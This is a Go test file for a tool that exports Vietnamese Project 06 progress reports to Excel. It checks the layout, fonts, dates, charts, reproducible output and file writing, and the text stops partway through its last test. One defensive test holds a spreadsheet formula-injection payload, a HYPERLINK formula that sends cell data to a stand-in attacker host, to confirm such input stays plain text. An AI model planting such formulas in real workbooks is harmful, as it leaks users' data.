package xlsx

import (
	"archive/zip"
	"bytes"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/plan06/plan06/internal/dates"
	"github.com/plan06/plan06/internal/i18n"
	"github.com/plan06/plan06/internal/model"
	"github.com/plan06/plan06/internal/status"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden from the current output")

// write returns the workbook bytes of r.
func write(t testing.TB, r *status.Result, o Options) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := Write(&buf, r, o); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// open reads a workbook back with excelize.
func open(t testing.TB, b []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = f.Close() })
	return f
}

// zipEntry returns the uncompressed contents of one part of the package.
func zipEntry(t testing.TB, b []byte, name string) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		if f.Name == name {
			rc, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			defer rc.Close()
			data, err := io.ReadAll(rc)
			if err != nil {
				t.Fatal(err)
			}
			return string(data)
		}
	}
	t.Fatalf("no %s in the package", name)
	return ""
}

var (
	sheetsVI = []string{"Tổng hợp", "Nhiệm vụ", "Đơn vị", "Xếp hạng", "Quá hạn"}
	sheetsEN = []string{"Summary", "Tasks", "Units", "Ranking", "Overdue"}
)

// dump lists every non-empty cell as "Sheet!A1 = value", values as
// excelize formats them (dates through their number format), newlines
// written \n.
func dump(t testing.TB, f *excelize.File) string {
	t.Helper()
	var b strings.Builder
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				if v == "" {
					continue
				}
				ref := cell(c+1, r+1)
				// A number format with a literal (a value's month) shows
				// beside the value, which excelize prints without it.
				if nf := cellStyle(t, f, sheet, ref).CustomNumFmt; nf != nil && strings.Contains(*nf, `"`) {
					v += " {" + *nf + "}"
				}
				fmt.Fprintf(&b, "%s!%s = %s\n", sheet, ref, strings.ReplaceAll(v, "\n", `\n`))
			}
		}
	}
	return b.String()
}

func TestGoldenCells(t *testing.T) {
	for _, lang := range []i18n.Lang{i18n.VI, i18n.EN} {
		t.Run(string(lang), func(t *testing.T) {
			f := open(t, write(t, fixture(), fixtureOptions(lang)))
			got := dump(t, f)
			path := filepath.Join("testdata", "cells.golden")
			if lang == i18n.EN {
				path = filepath.Join("testdata", "cells_en.golden")
			}
			if *update {
				if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run go test -update to create it)", err)
			}
			if got != string(want) {
				t.Errorf("cells differ from %s (go test -update rewrites it):\n%s", path, lineDiff(string(want), got))
			}
		})
	}
}

// lineDiff lists the lines only in want (-) and only in got (+).
func lineDiff(want, got string) string {
	w, g := strings.Split(want, "\n"), strings.Split(got, "\n")
	var b strings.Builder
	for _, l := range w {
		if !slices.Contains(g, l) {
			fmt.Fprintf(&b, "- %s\n", l)
		}
	}
	for _, l := range g {
		if !slices.Contains(w, l) {
			fmt.Fprintf(&b, "+ %s\n", l)
		}
	}
	return b.String()
}

func TestSheetNames(t *testing.T) {
	for lang, want := range map[i18n.Lang][]string{i18n.VI: sheetsVI, i18n.EN: sheetsEN} {
		f := open(t, write(t, fixture(), fixtureOptions(lang)))
		if got := f.GetSheetList(); !slices.Equal(got, want) {
			t.Errorf("%s: sheets %q, want %q", lang, got, want)
		}
		if f.GetActiveSheetIndex() != 0 {
			t.Errorf("%s: active sheet %d, want the summary", lang, f.GetActiveSheetIndex())
		}
	}
}

func cellValue(t testing.TB, f *excelize.File, sheet, ref string) string {
	t.Helper()
	v, err := f.GetCellValue(sheet, ref)
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func cellStyle(t testing.TB, f *excelize.File, sheet, ref string) *excelize.Style {
	t.Helper()
	id, err := f.GetCellStyle(sheet, ref)
	if err != nil {
		t.Fatal(err)
	}
	st, err := f.GetStyle(id)
	if err != nil {
		t.Fatal(err)
	}
	return st
}

func TestDecreeHeader(t *testing.T) {
	f := open(t, write(t, fixture(), fixtureOptions(i18n.VI)))
	const s = "Tổng hợp"
	type want struct {
		ref, text        string
		size             float64
		bold, italic     bool
		underline, merge string
	}
	for _, w := range []want{
		{"A1", "UBND TỈNH BẮC GIANG", 13, false, false, "", "A1:C1"},
		{"A2", "TỔ CÔNG TÁC ĐỀ ÁN 06", 13, true, false, "", "A2:C2"},
		// The short line under the issuing body (Decree 30/2020).
		{"A3", strings.Repeat("\u00a0", 35), ruleSize, false, false, "single", "A3:C3"},
		{"D1", "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", 13, true, false, "", "D1:L1"},
		{"D2", "Độc lập - Tự do - Hạnh phúc", 14, true, false, "single", "D2:L2"},
		{"A4", "Số:      /BC-TCT", 13, false, false, "", "A4:C4"},
		{"D4", "Bắc Giang, ngày 15 tháng 04 năm 2024", 13, false, true, "", "D4:L4"},
		{"A6", "BÁO CÁO", 14, true, false, "", "A6:L6"},
		{"A7", "Kết quả thực hiện Đề án 06 tháng 4 năm 2024", 14, true, false, "", "A7:L7"},
		{"A8", "(Số liệu tính từ ngày 15/03/2024 đến ngày 14/04/2024)", 13, false, true, "", "A8:L8"},
	} {
		if got := cellValue(t, f, s, w.ref); got != w.text {
			t.Errorf("%s = %q, want %q", w.ref, got, w.text)
		}
		st := cellStyle(t, f, s, w.ref)
		if st.Font == nil || st.Font.Family != fontName || st.Font.Size != w.size ||
			st.Font.Bold != w.bold || st.Font.Italic != w.italic || st.Font.Underline != w.underline {
			t.Errorf("%s: font %+v, want %s %v bold=%v italic=%v underline=%q", w.ref, st.Font, fontName, w.size, w.bold, w.italic, w.underline)
		}
		if st.Alignment == nil || st.Alignment.Horizontal != "center" {
			t.Errorf("%s: not centred: %+v", w.ref, st.Alignment)
		}
		if !hasMerge(t, f, s, w.merge) {
			t.Errorf("%s is not merged", w.merge)
		}
	}
}

// The summary's tables: the outcome table's two-row header (STT, group,
// total and standing merged down, done and open merged across), group
// names over B:D numbered by their refs, the seven statuses' counts under
// the outcomes, the targets' task, target and measure merged down their
// rows, and a page break only before the targets, which do not fit under
// the first two parts.
func TestSummaryTables(t *testing.T) {
	b := write(t, fixture(), fixtureOptions(i18n.VI))
	f := open(t, b)
	const s = "Tổng hợp"
	for _, rng := range []string{"A11:A12", "B11:D12", "E11:E12", "F11:G11", "H11:I11", "J11:J12",
		"B13:D13", "B15:D15", "A18:D18", "A21:D21", "A22:D22", "A25:D25", "A26:D26", "B30:B31", "C30:C31", "E30:E31"} {
		if !hasMerge(t, f, s, rng) {
			t.Errorf("%s is not merged", rng)
		}
	}
	for ref, want := range map[string]string{"A13": "II.1", "A14": "II.3", "A15": "II.3.1", "A16": "3",
		"F11": "Đã hoàn thành", "H11": "Chưa hoàn thành", "J11": "Thường xuyên", "I12": "Quá hạn",
		// Tổng số: the 5 tasks with a deadline, the 1 standing duty apart
		// (as the signed report's count sentence says it).
		"E18": "5", "J18": "1",
		// Under it the seven statuses (SPEC §5), in rule order, and all
		// six tasks.
		"A20": "Số nhiệm vụ theo tình trạng", "A21": "Tình trạng nhiệm vụ", "E21": "Hoàn thành",
		"F21": "Quá hạn", "K21": "Chưa thực hiện", "L21": "Tổng số", "A22": "Số nhiệm vụ", "L22": "6"} {
		if got := cellValue(t, f, s, ref); got != want {
			t.Errorf("%s = %q, want %q", ref, got, want)
		}
	}
	st := cellStyle(t, f, s, "B15")
	if st.Alignment == nil || st.Alignment.Indent != 1 || st.Font.Bold {
		t.Errorf("child group B15 not indented plain: %+v %+v", st.Alignment, st.Font)
	}
	if st := cellStyle(t, f, s, "H30"); st.Fill.Type != "pattern" || len(st.Fill.Color) != 1 || st.Fill.Color[0] != "FFC7CE" {
		t.Errorf("not met is not red: %+v", st.Fill)
	}
	// The first two parts (with the statuses under the outcomes) fit on
	// the first page; the targets do not fit under them, so they start a
	// new page, the chart under them.
	sheet := zipEntry(t, b, "xl/worksheets/sheet1.xml")
	if row := findRow(t, f, s, "A", "3. "); !strings.Contains(sheet, fmt.Sprintf(`<brk id="%d" max="16383" man="true">`, row-1)) {
		t.Errorf("no page break before row %d", row)
	}
	if n := strings.Count(sheet, "<brk "); n != 1 {
		t.Errorf("%d page breaks, want 1 (before the targets)", n)
	}
	// Every row with text has a height: no application grows rows to fit
	// wrapped text on opening a file.
	for _, sheet := range sheetsVI {
		rows, _ := f.GetRows(sheet)
		for r := range rows {
			if h, _ := f.GetRowHeight(sheet, r+1); len(rows[r]) > 0 && h == defaultRowHeight {
				t.Errorf("%s row %d has the default height", sheet, r+1)
			}
		}
	}
	if h, _ := f.GetRowHeight("Nhiệm vụ", findRow(t, f, "Nhiệm vụ", "B", "Lựa chọn tối thiểu")); h < 3*13 {
		t.Errorf("a three-line task row is %v pt high", h)
	}
}

func hasMerge(t testing.TB, f *excelize.File, sheet, rng string) bool {
	t.Helper()
	mcs, err := f.GetMergeCells(sheet)
	if err != nil {
		t.Fatal(err)
	}
	for _, mc := range mcs {
		if mc.GetStartAxis()+":"+mc.GetEndAxis() == rng {
			return true
		}
	}
	return false
}

func TestPlaceDate(t *testing.T) {
	wb := &workbook{lang: i18n.VI}
	for d, want := range map[dates.Date]string{
		day(2024, 1, 5):   "Bắc Giang, ngày 05 tháng 01 năm 2024",
		day(2024, 2, 29):  "Bắc Giang, ngày 29 tháng 02 năm 2024",
		day(2024, 3, 15):  "Bắc Giang, ngày 15 tháng 03 năm 2024",
		day(2024, 12, 9):  "Bắc Giang, ngày 09 tháng 12 năm 2024",
		day(2024, 10, 10): "Bắc Giang, ngày 10 tháng 10 năm 2024",
	} {
		if got := wb.placeDate("Bắc Giang", d); got != want {
			t.Errorf("%s: %q, want %q", d, got, want)
		}
	}
	if got := wb.placeDate("", day(2024, 3, 15)); got != "ngày 15 tháng 03 năm 2024" {
		t.Errorf("no place: %q", got)
	}
	en := &workbook{lang: i18n.EN}
	if got := en.placeDate("Bắc Giang", day(2024, 3, 5)); got != "Bắc Giang, 5 March 2024" {
		t.Errorf("en: %q", got)
	}
}

func TestPeriodTitle(t *testing.T) {
	for _, c := range []struct {
		lang    i18n.Lang
		kind    dates.PeriodKind
		year, n int
		want    string
	}{
		{i18n.VI, dates.PeriodMonth, 2024, 3, "Kết quả thực hiện Đề án 06 tháng 3 năm 2024"},
		{i18n.VI, dates.PeriodHalf, 2024, 1, "Sơ kết 6 tháng đầu năm 2024 thực hiện Đề án 06"},
		{i18n.VI, dates.PeriodHalf, 2024, 2, "Sơ kết 6 tháng cuối năm 2024 thực hiện Đề án 06"},
		{i18n.VI, dates.PeriodYear, 2024, 0, "Tổng kết năm 2024 thực hiện Đề án 06"},
		{i18n.EN, dates.PeriodMonth, 2024, 12, "Results of the implementation of Project 06, December 2024"},
		{i18n.EN, dates.PeriodHalf, 2024, 1, "Interim review of the implementation of Project 06, first half of 2024"},
		{i18n.EN, dates.PeriodYear, 2024, 0, "Annual review of the implementation of Project 06, 2024"},
	} {
		if got := PeriodTitle(c.lang, c.kind, c.year, c.n); got != c.want {
			t.Errorf("PeriodTitle(%s, %d, %d, %d) = %q, want %q", c.lang, c.kind, c.year, c.n, got, c.want)
		}
	}
}

// Every cell of every sheet is in Times New Roman, and so is the default
// font that empty cells and new text use.
func TestTimesNewRomanEverywhere(t *testing.T) {
	f := open(t, write(t, fixture(), fixtureOptions(i18n.VI)))
	if name, err := f.GetDefaultFont(); err != nil || name != fontName {
		t.Errorf("default font %q (%v)", name, err)
	}
	n := 0
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c := range row {
				ref := cell(c+1, r+1)
				st := cellStyle(t, f, sheet, ref)
				if st.Font == nil || st.Font.Family != fontName {
					t.Errorf("%s!%s: font %+v", sheet, ref, st.Font)
				}
				n++
			}
		}
	}
	if n < 100 {
		t.Errorf("only %d cells checked", n)
	}
}

func TestTableSheets(t *testing.T) {
	b := write(t, fixture(), fixtureOptions(i18n.VI))
	f := open(t, b)
	names := f.GetDefinedName()
	// The last row of each table in the fixture.
	last := map[string]int{"Nhiệm vụ": 13, "Đơn vị": 11, "Xếp hạng": 14, "Quá hạn": 7}
	cols := map[string]string{"Nhiệm vụ": "J", "Đơn vị": "K", "Xếp hạng": "I", "Quá hạn": "H"}
	for i, sheet := range sheetsVI[1:] {
		panes, err := f.GetPanes(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if !panes.Freeze || panes.YSplit != 3 || panes.XSplit != 0 || panes.TopLeftCell != "A4" {
			t.Errorf("%s: panes %+v, want the rows to 3 frozen", sheet, panes)
		}
		// Header row: bold, bordered, wrapped.
		st := cellStyle(t, f, sheet, "B3")
		if st.Font == nil || !st.Font.Bold || len(st.Border) != 4 || st.Alignment == nil || !st.Alignment.WrapText {
			t.Errorf("%s!B3: header style %+v %+v %+v", sheet, st.Font, st.Border, st.Alignment)
		}
		// excelize v2.11 writes the range with dollars.
		ref := fmt.Sprintf("$A$3:$%s$%d", cols[sheet], last[sheet])
		xml := zipEntry(t, b, fmt.Sprintf("xl/worksheets/sheet%d.xml", i+2))
		if !strings.Contains(xml, `<autoFilter ref="`+ref+`"`) {
			t.Errorf("%s: no autofilter over %s", sheet, ref)
		}
		wantFilter := excelize.DefinedName{Name: "_xlnm._FilterDatabase", Scope: sheet,
			RefersTo: fmt.Sprintf("'%s'!$A$3:$%s$%d", sheet, cols[sheet], last[sheet])}
		wantTitles := excelize.DefinedName{Name: "_xlnm.Print_Titles", Scope: sheet,
			RefersTo: fmt.Sprintf("'%s'!$3:$3", sheet)}
		for _, w := range []excelize.DefinedName{wantFilter, wantTitles} {
			if !slices.ContainsFunc(names, func(d excelize.DefinedName) bool {
				return d.Name == w.Name && d.Scope == w.Scope && d.RefersTo == w.RefersTo
			}) {
				t.Errorf("%s: no defined name %+v in %+v", sheet, w, names)
			}
		}
	}
	for _, sheet := range sheetsVI {
		pl, err := f.GetPageLayout(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if pl.Size == nil || *pl.Size != 9 || pl.Orientation == nil || *pl.Orientation != "landscape" ||
			pl.FitToWidth == nil || *pl.FitToWidth != 1 || pl.FitToHeight == nil || *pl.FitToHeight != 0 {
			t.Errorf("%s: page layout %s", sheet, fmtLayout(pl))
		}
		props, err := f.GetSheetProps(sheet)
		if err != nil {
			t.Fatal(err)
		}
		// Tables are fitted to the page's width; the summary is printed
		// at the scale that fits its width and its page breaks (pages.go).
		if sheet == "Tổng hợp" {
			if props.FitToPage == nil || *props.FitToPage || pl.AdjustTo == nil || int(*pl.AdjustTo) != widthScale(summaryWidths) {
				t.Errorf("%s: fit to page %v, scale %v, want a fixed scale of %d%%", sheet, props.FitToPage, pl.AdjustTo, widthScale(summaryWidths))
			}
			continue
		}
		if props.FitToPage == nil || !*props.FitToPage {
			t.Errorf("%s: fit to page is off", sheet)
		}
	}
}

func fmtLayout(pl excelize.PageLayoutOptions) string {
	p := func(x *int) string {
		if x == nil {
			return "nil"
		}
		return fmt.Sprint(*x)
	}
	o := "nil"
	if pl.Orientation != nil {
		o = *pl.Orientation
	}
	return fmt.Sprintf("size=%s orientation=%s fitToWidth=%s fitToHeight=%s", p(pl.Size), o, p(pl.FitToWidth), p(pl.FitToHeight))
}

// Dates are real dates (serial numbers shown dd/mm/yyyy), numbers are
// numbers, and the ongoing task says so in words.
func TestDatesAndNumbers(t *testing.T) {
	f := open(t, write(t, fixture(), fixtureOptions(i18n.VI)))
	checkDate := func(sheet, ref string, d dates.Date) {
		t.Helper()
		raw, err := f.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		if want := fmt.Sprint(d.Sub(excelEpoch)); raw != want {
			t.Errorf("%s!%s raw %q, want serial %s", sheet, ref, raw, want)
		}
		if got := cellValue(t, f, sheet, ref); got != d.VN() {
			t.Errorf("%s!%s shows %q, want %q", sheet, ref, got, d.VN())
		}
		st := cellStyle(t, f, sheet, ref)
		if st.CustomNumFmt == nil || *st.CustomNumFmt != "dd/mm/yyyy" {
			t.Errorf("%s!%s: number format %v", sheet, ref, st.CustomNumFmt)
		}
		if typ, _ := f.GetCellType(sheet, ref); typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
			t.Errorf("%s!%s is text", sheet, ref)
		}
	}
	// Serial 45383 is 01/04/2024 in Excel's 1900 system.
	if n := day(2024, 4, 1).Sub(excelEpoch); n != 45383 {
		t.Fatalf("serial of 01/04/2024 = %d", n)
	}
	row := findRow(t, f, "Nhiệm vụ", "B", "Lựa chọn tối thiểu")
	checkDate("Nhiệm vụ", cell(5, row), day(2024, 4, 1))
	checkDate("Đơn vị", cell(3, findRow(t, f, "Đơn vị", "B", "Sở Thông tin")), day(2024, 4, 17))
	row = findRow(t, f, "Quá hạn", "B", "Ban hành kế hoạch")
	checkDate("Quá hạn", cell(4, row), day(2024, 1, 31))
	if got := cellValue(t, f, "Quá hạn", cell(6, row)); got != "80" {
		t.Errorf("days overdue %q, want 80", got)
	}
	if got := cellValue(t, f, "Nhiệm vụ", cell(5, findRow(t, f, "Nhiệm vụ", "B", "Tuyên truyền"))); got != "Thường xuyên" {
		t.Errorf("ongoing due %q", got)
	}
	// The missing unit has no date, and an empty cell rather than text.
	if got := cellValue(t, f, "Đơn vị", cell(3, findRow(t, f, "Đơn vị", "B", "Ban Dân tộc"))); got != "" {
		t.Errorf("missing unit's date %q", got)
	}
	for _, ref := range []string{cell(7, findRow(t, f, "Nhiệm vụ", "B", "Thực hiện 02 nhóm"))} {
		if typ, _ := f.GetCellType("Nhiệm vụ", ref); typ == excelize.CellTypeSharedString {
			t.Errorf("progress %s is text", ref)
		}
	}
}

// findRow returns the row whose cell in column col starts with prefix.
func findRow(t testing.TB, f *excelize.File, sheet, col, prefix string) int {
	t.Helper()
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	c := int(col[0]-'A') + 1
	for i, row := range rows {
		if len(row) >= c && strings.HasPrefix(row[c-1], prefix) {
			return i + 1
		}
	}
	t.Fatalf("%s: no row with %s starting %q", sheet, col, prefix)
	return 0
}

// The appendix shows only what the cycle's own reports say, prefixed by the
// unit where several units lead the task.
func TestEntriesFromTheCycleOnly(t *testing.T) {
	f := open(t, write(t, fixture(), fixtureOptions(i18n.VI)))
	const s = "Nhiệm vụ"
	if got := cellValue(t, f, s, cell(8, findRow(t, f, s, "B", "Lựa chọn tối thiểu"))); got != "" {
		t.Errorf("3.1.1 shows the March entry: %q", got)
	}
	row := findRow(t, f, s, "B", "Thực hiện 02 nhóm")
	if got, want := cellValue(t, f, s, cell(8, row)),
		"UBND huyện Lục Nam: Tiếp nhận 1.234 hồ sơ liên thông.\nUBND huyện Yên Thế: Tiếp nhận 987 hồ sơ liên thông."; got != want {
		t.Errorf("results %q, want %q", got, want)
	}
	if got, want := cellValue(t, f, s, cell(9, row)), "UBND huyện Lục Nam: Đường truyền cấp xã chưa ổn định."; got != want {
		t.Errorf("obstacles %q, want %q", got, want)
	}
	row = findRow(t, f, s, "B", "Rà soát")
	if got := cellValue(t, f, s, cell(9, row)); got != "Chưa được bố trí kinh phí." {
		t.Errorf("a single lead is not prefixed: %q", got)
	}
}

// Text from the files is never a formula, however it starts.
func TestNoFormulaInjection(t *testing.T) {
	r := fixture()
	evil := []string{`=HYPERLINK("http://attacker.example/?d="&A1,"Bấm vào đây")`, "=1+2", "+84 204 3854 321", "-1+1", "@SUM(A1:A2)"}
	r.Tasks[0].Assignments[0].Entry.Result = txt(evil[0])
	r.Tasks[1].Assignments[0].Entry.Obstacles = txt(evil[1])
	r.Tasks[1].Assignments[0].Entry.Proposals = txt(evil[3])
	r.Units[0].Report.Document = txt(evil[2])
	r.Plan.Tasks[4].Title = txt(evil[4])
	b := write(t, r, fixtureOptions(i18n.VI))
	f := open(t, b)
	found := map[string]bool{}
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for ri, row := range rows {
			for ci, v := range row {
				ref := cell(ci+1, ri+1)
				if formula, err := f.GetCellFormula(sheet, ref); err != nil || formula != "" {
					t.Errorf("%s!%s has formula %q (%v)", sheet, ref, formula, err)
				}
				for _, e := range evil {
					if strings.HasPrefix(v, e) {
						found[e] = true
						if typ, _ := f.GetCellType(sheet, ref); typ != excelize.CellTypeSharedString {
							t.Errorf("%s!%s %q has type %v, want a string", sheet, ref, v, typ)
						}
					}
				}
			}
		}
	}
	for _, e := range evil {
		if !found[e] {
			t.Errorf("%q is not in the workbook as text", e)
		}
	}
	for i := 1; i <= 4; i++ {
		if x := zipEntry(t, b, fmt.Sprintf("xl/worksheets/sheet%d.xml", i)); strings.Contains(x, "<f>") || strings.Contains(x, "<f ") {
			t.Errorf("sheet%d.xml holds a formula", i)
		}
	}
}

func TestChart(t *testing.T) {
	b := write(t, fixture(), fixtureOptions(i18n.VI))
	chart := zipEntry(t, b, "xl/charts/chart1.xml")
	// Categories are the refs of the leaf groups with tasks (rows 35–37 of
	// the chart's data: II.1, II.3.1, and the fourth group, without a ref;
	// II.3, the parent of II.3.1, holds tasks of its own but is not a leaf,
	// SPEC §8.5); one series per outcome, named by its cell in the data's
	// one-row header (row 34).
	for _, want := range []string{"<barChart>", `<barDir val="col">`, `<grouping val="stacked">`,
		`<varyColors val="0">`, `<f>&#39;Tổng hợp&#39;!$A$35:$A$37</f>`, `<f>&#39;Tổng hợp&#39;!$F$34</f>`,
		`<f>&#39;Tổng hợp&#39;!$J$35:$J$37</f>`, "Times New Roman"} {
		if !strings.Contains(chart, want) {
			t.Errorf("chart1.xml lacks %s", want)
		}
	}
	if n := strings.Count(chart, "<ser>"); n != len(status.Outcomes) {
		t.Errorf("chart has %d series, want one per outcome", n)
	}
	f := open(t, b)
	// Every series is named by a header cell that holds text: the legend
	// reads "Column J" where the cell is empty.
	names := regexp.MustCompile(`<tx><strRef><f>[^<]*!\$([A-Z]+)\$([0-9]+)</f>`).FindAllStringSubmatch(chart, -1)
	if len(names) != len(status.Outcomes) {
		t.Errorf("%d series names, want %d", len(names), len(status.Outcomes))
	}
	merged, err := f.GetMergeCells("Tổng hợp")
	if err != nil {
		t.Fatal(err)
	}
	// The legend says each outcome in full: under the outcome table's
	// two-row header two columns read "Quá hạn" alone.
	for k, m := range names {
		ref := m[1] + m[2]
		got := cellValue(t, f, "Tổng hợp", ref)
		if got == "" {
			t.Errorf("series named by %s, an empty cell", ref)
		}
		if k < len(status.Outcomes) {
			if want := i18n.T(i18n.VI, "outcome."+string(status.Outcomes[k])); got != want {
				t.Errorf("series %d named %q (%s), want %q", k+1, got, ref, want)
			}
		}
		// excelize reads a merged range's value in every cell of it; a
		// chart reads only the first.
		col, row, _ := excelize.CellNameToCoordinates(ref)
		for _, mc := range merged {
			c1, r1, _ := excelize.CellNameToCoordinates(mc.GetStartAxis())
			c2, r2, _ := excelize.CellNameToCoordinates(mc.GetEndAxis())
			if col >= c1 && col <= c2 && row >= r1 && row <= r2 && ref != mc.GetStartAxis() {
				t.Errorf("series named by %s, inside the merged %s:%s whose text is in %s", ref, mc.GetStartAxis(), mc.GetEndAxis(), mc.GetStartAxis())
			}
		}
	}
	for ref, want := range map[string]string{"A35": "II.1", "A36": "II.3.1", "A37": "4", "A38": "", "E36": "2"} {
		if got := cellValue(t, f, "Tổng hợp", ref); got != want {
			t.Errorf("chart data %s = %q, want %q", ref, got, want)
		}
	}
	rels := zipEntry(t, b, "xl/worksheets/_rels/sheet1.xml.rels")
	if !strings.Contains(rels, "../drawings/drawing1.xml") {
		t.Errorf("the summary sheet does not hold the drawing: %s", rels)
	}
	drawing := zipEntry(t, b, "xl/drawings/drawing1.xml")
	// Anchored below its data (a header row and three groups), a row under
	// the last; drawing rows count from 0.
	row := findRow(t, open(t, b), "Tổng hợp", "A", "4. ") + 5
	if from := fmt.Sprintf("<xdr:from><xdr:col>0</xdr:col><xdr:colOff>38100</xdr:colOff><xdr:row>%d</xdr:row>", row); !strings.Contains(drawing, from) {
		t.Errorf("chart anchor: %s", drawing)
	}
}

// The same Result gives the same bytes: twice in a row, from a Result built
// afresh (other pointers, other map seeds), and in another time zone.
func TestReproducible(t *testing.T) {
	o := fixtureOptions(i18n.VI)
	a := write(t, fixture(), o)
	if b := write(t, fixture(), o); !bytes.Equal(a, b) {
		t.Fatal("two runs differ")
	}
	saved := time.Local
	t.Cleanup(func() { time.Local = saved })
	time.Local = time.FixedZone("UTC+14", 14*3600)
	if b := write(t, fixture(), o); !bytes.Equal(a, b) {
		t.Fatal("a run in UTC+14 differs")
	}
	time.Local = time.FixedZone("UTC-11", -11*3600)
	if b := write(t, fixture(), o); !bytes.Equal(a, b) {
		t.Fatal("a run in UTC-11 differs")
	}
	time.Local = saved

	// The big workbook goes through more of excelize; check it too.
	big := write(t, bigResult(), o)
	if b := write(t, bigResult(), o); !bytes.Equal(big, b) {
		t.Fatal("two runs of the big workbook differ")
	}
}

// The package is canonical: entries in name order, one fixed time stamp,
// [Content_Types].xml sorted, the document properties fixed.
func TestPackageIsCanonical(t *testing.T) {
	o := fixtureOptions(i18n.VI)
	b := write(t, fixture(), o)
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, f := range zr.File {
		names = append(names, f.Name)
		if y, m, d := f.Modified.Date(); y != 2024 || m != 4 || d != 15 || f.Modified.Hour() != 0 {
			t.Errorf("%s: modified %v, want 2024-04-15 00:00", f.Name, f.Modified)
		}
	}
	if !slices.IsSorted(names) || names[0] != contentTypesName {
		t.Errorf("entries not in name order: %q", names)
	}
	ct := zipEntry(t, b, contentTypesName)
	var exts, parts []string
	for _, s := range strings.Split(ct, "<Default ")[1:] {
		exts = append(exts, s[:strings.Index(s, " ")])
	}
	for _, s := range strings.Split(ct, "<Override ")[1:] {
		parts = append(parts, s[:strings.Index(s, " ")])
	}
	if len(exts) < 5 || !slices.IsSorted(exts) || len(parts) < 8 || !slices.IsSorted(parts) {
		t.Errorf("content types not sorted:\n%v\n%v", exts, parts)
	}
	f := open(t, b)
	props, err := f.GetDocProps()
	if err != nil {
		t.Fatal(err)
	}
	if props.Creator != "plan06" || props.Created != "2024-04-15T00:00:00Z" || props.Modified != "2024-04-15T00:00:00Z" || props.Title != o.Title {
		t.Errorf("doc props %+v", props)
	}
}

func TestWriteFile(t *testing.T) {
	dir := t.TempDir()
	o := fixtureOptions(i18n.VI)

	missing := filepath.Join(dir, "no-such-folder", "bao-cao.xlsx")
	err := WriteFile(missing, fixture(), o)
	if err == nil {
		t.Fatal("writing into a missing folder succeeded")
	}
	if !strings.Contains(err.Error(), missing) || !strings.Contains(err.Error(), "does not exist") {
		t.Errorf("unclear error: %v", err)
	}
	if _, err := os.Stat(filepath.Dir(missing)); !os.IsNotExist(err) {
		t.Errorf("the missing folder was created")
	}

	path := filepath.Join(dir, "bao-cao-de-an-06-2024-04.xlsx")
	if err := os.WriteFile(path, []byte("old"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := WriteFile(path, fixture(), o); err != nil {
		t.Fatal(err)
	}
	got, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, write(t, fixture(), o)) {
		t.Error("WriteFile and Write differ")
	}
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 1 || entries[0].Name() != filepath.Base(path) {
		var names []string
		for _, e := range entries {
			names = append(names, e.Name())
		}
		t.Errorf("folder holds %q, want only the report", names)
	}

	// A folder that cannot be written: nothing is left behind.
	ro := filepath.Join(dir, "read-only")
	if err := os.Mkdir(ro, 0o555); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.Chmod(ro, 0o755) })
	if probe, err := os.CreateTemp(ro, "probe"); err == nil {
		_ = probe.Close()
		_ = os.Remove(probe.Name())
		t.Log("running as a user who can write a read-only folder; skipping that case")
	} else {
		err := WriteFile(filepath.Join(ro, "x.xlsx"), fixture(), o)
		if err == nil || !strings.Contains(err.Error(), "permission denied") {
			t.Errorf("read-only folder: %v", err)
		}
		if entries, _ := os.ReadDir(ro); len(entries) != 0 {
			t.Errorf("read-only folder holds %d files", len(entries))
		}
	}

	// A failure after the temporary file exists removes it: a path that is
	// a folder cannot be replaced by the rename.
	target := filepath.Join(dir, "is-a-folder")
	if err := os.Mkdir(target, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(target, "keep"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := WriteFile(target, fixture(), o); err == nil {
		t.Error("replacing a folder succeeded")
	}
	if matches, _ := filepath.Glob(filepath.Join(dir, ".plan06-*")); len(matches) != 0 {
		t.Errorf("temporary files left: %q", matches)
	}
}

func TestNoResult(t *testing.T) {
	if err := Write(io.Discard, nil, Options{}); err == nil {
		t.Error("nil result accepted")
	}
}

// A plan with no tasks, no units owing and no header still gives a valid
// workbook.
func TestEmpty(t *testing.T) {
	r := fixture()
	r.Tasks, r.Units = nil, nil
	r.Plan.Header = fixture().Plan.Header
	r.Plan.Header.Authority = txt("")
	b := write(t, r, Options{})
	f := open(t, b)
